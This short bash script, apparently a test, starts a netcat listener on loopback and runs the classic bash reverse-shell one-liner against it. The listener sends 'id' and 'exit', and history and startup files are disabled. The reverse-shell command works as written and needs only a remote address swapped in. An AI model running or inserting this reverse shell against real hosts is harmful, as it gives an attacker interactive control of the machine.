#!/bin/bash
# The classic reverse shell, to a listener on this host's loopback: bash
# redirects its standard streams to a TCP connection and starts an
# interactive shell on it, which runs the listener's commands (id, exit).
# No startup files and no history file, so the run is the same everywhere.
set -eu
port=$((40000 + $$ % 2000)) # a port of its own: another run may be going on
{ printf 'id\nexit\n'; sleep 2; } | busybox nc -l -p $port >/dev/null &
listener=$!
trap 'kill $listener 2>/dev/null || true' EXIT
sleep 0.5
HISTFILE= bash -c "bash --norc --noprofile -i >& /dev/tcp/127.0.0.1/$port 0>&1" 2>/dev/null
